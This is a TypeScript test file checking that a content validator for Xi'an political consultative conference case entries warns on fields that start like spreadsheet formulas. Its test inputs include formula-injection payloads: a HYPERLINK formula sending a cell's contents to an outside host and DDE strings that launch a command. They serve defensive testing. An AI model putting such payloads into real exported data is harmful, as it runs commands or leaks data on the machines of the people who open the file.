import { describe, expect, test } from 'vitest';
import { readThemes } from '../../src/lib/safe-yaml.ts';
import { slugIndex, type ValidationContext } from '../../scripts/lib/validate/context.ts';
import { validateFile } from '../../scripts/lib/validate/validate-file.ts';

const themes = readThemes('content/themes.yaml');
const ids = { reports: new Set(['2023/xian']), cases: new Set<string>(), rules: new Set<string>(), themes: new Set(themes.map((t) => t.id)) };
const context: ValidationContext = { ids, idsBySlug: slugIndex(ids), themes, entryText: () => '' };

function check(title: string, summary = '测试。') {
  const text = `---\ntitle: ${JSON.stringify(title)}\nregion: "610100"\norganization: 西安市政协\nyear: "2023"\nthemes:\n  - member-studio\nsummary: ${JSON.stringify(summary)}\nsources:\n  - reports/2023/xian\n---\n\n## 背景\n\n无。\n\n## 做法\n\n无。\n\n## 成效\n\n无。\n`;
  return validateFile({ file: 'content/cases/2023/formula.md', bytes: new TextEncoder().encode(text), isSymlink: false }, context).filter((d) => d.rule === 'text/spreadsheet-formula');
}

describe('spreadsheet formula warning', () => {
  test.each(['=HYPERLINK("https://x.example/?"&A2,"打开")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,2)'])('warns on a field that starts like a formula: %s', (title) => {
    const found = check(title);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ severity: 'warning', line: 2 });
    expect(found[0]?.message).toContain('电子表格');
  });

  test('leaves ordinary text alone, even with a leading minus', () => {
    expect(check('委员工作室“1+3”平台', '-5% 以内的误差，@政协 委员')).toEqual([]);
  });
});
